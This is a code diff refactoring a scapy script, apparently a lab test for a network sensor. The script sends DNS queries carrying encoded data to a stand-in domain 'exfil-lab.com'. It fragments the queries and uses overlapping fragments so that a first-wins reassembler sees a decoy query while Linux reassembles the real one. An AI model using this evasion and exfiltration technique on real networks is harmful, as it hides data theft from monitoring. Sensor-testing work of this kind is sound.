@@ -12,37 +12,53 @@ import sys, time
 from scapy.all import IP, UDP, DNS, DNSQR, Raw, send, conf
 
 conf.verb = 0
-SERVER = sys.argv[1]
 SRC = "10.53.3.10"
 
 
-def udp_bytes(name, sport, dnsid):
-    p = IP(src=SRC, dst=SERVER) / UDP(sport=sport, dport=53) / DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))
+def udp_bytes(server, name, sport, dnsid):
+    """The UDP header and payload of a query for name, checksum computed."""
+    p = IP(src=SRC, dst=server) / UDP(sport=sport, dport=53) / DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))
     p = IP(bytes(p))   # the checksums computed
     return bytes(p[UDP])
 
 
-def frag(ipid, off, data, mf):
-    return IP(src=SRC, dst=SERVER, id=ipid, proto=17, flags="MF" if mf else 0, frag=off // 8) / Raw(data)
+def frag(server, ipid, off, data, mf):
+    """One IPv4 fragment of a UDP datagram: data at byte offset off."""
+    return IP(src=SRC, dst=server, id=ipid, proto=17, flags="MF" if mf else 0, frag=off // 8) / Raw(data)
 
 
-# 1. in order, the name split between the fragments
-u = udp_bytes("fragtestmzxw6ytboi4dcnzr.gezdgnbvgy3tqojq.f01.exfil-lab.com", 40001, 0x6101)
-send(frag(0x7101, 0, u[:32], True))
-time.sleep(0.2)
-send(frag(0x7101, 32, u[32:], False))
-time.sleep(0.5)
+def decoy_trick(server, ipid, decoy, real, k, gap):
+    """Decoy head, a fragment that partly overlaps it (Linux discards the
+    datagram), the shared tail (completes the decoy in a first-wins
+    reassembly, starts a new datagram in Linux), then the real head (Linux
+    completes the real datagram); decoy and real share their bytes from
+    k - 8 on."""
+    assert len(decoy) == len(real) and decoy[k - 8:] == real[k - 8:]
+    send(frag(server, ipid, 0, decoy[:k], True))               # decoy head
+    time.sleep(gap)
+    send(frag(server, ipid, k - 8, real[k - 8:k + 8], True))   # overlaps [k-8, k)
+    time.sleep(gap)
+    send(frag(server, ipid, k, real[k:], False))               # shared tail
+    time.sleep(gap)
+    send(frag(server, ipid, 0, real[:k], True))                # the real head
 
-# 2. decoy and real query of the same length and the same tail
-decoy = udp_bytes("wwwwwwwwwwwwwwwwwwwwgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
-real = udp_bytes("mzxw6ytboi4dcnzrgy3tgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
-k = 56                      # both heads: [0, 56); the tail from 56 is the same
-assert len(decoy) == len(real) and decoy[k - 8:] == real[k - 8:]
-send(frag(0x7102, 0, decoy[:k], True))               # decoy head
-time.sleep(0.2)
-send(frag(0x7102, k - 8, real[k - 8:k + 8], True))   # overlaps [48, 56): Linux drops the datagram
-time.sleep(0.2)
-send(frag(0x7102, k, real[k:], False))               # shared tail: completes the decoy in the sensor
-time.sleep(0.2)
-send(frag(0x7102, 0, real[:k], True))                # Linux: tail + this = the real query
-time.sleep(0.5)
+
+def main():
+    server = sys.argv[1]
+    # 1. in order, the name split between the fragments
+    u = udp_bytes(server, "fragtestmzxw6ytboi4dcnzr.gezdgnbvgy3tqojq.f01.exfil-lab.com", 40001, 0x6101)
+    send(frag(server, 0x7101, 0, u[:32], True))
+    time.sleep(0.2)
+    send(frag(server, 0x7101, 32, u[32:], False))
+    time.sleep(0.5)
+    # 2. decoy and real query of the same length and the same tail; both
+    # heads [0, 56)
+    decoy = udp_bytes(server, "wwwwwwwwwwwwwwwwwwwwgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
+    real = udp_bytes(server, "mzxw6ytboi4dcnzrgy3tgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
+    decoy_trick(server, 0x7102, decoy, real, 56, 0.2)
+    time.sleep(0.5)
+
+
+if __name__ == "__main__":
+    main()
+
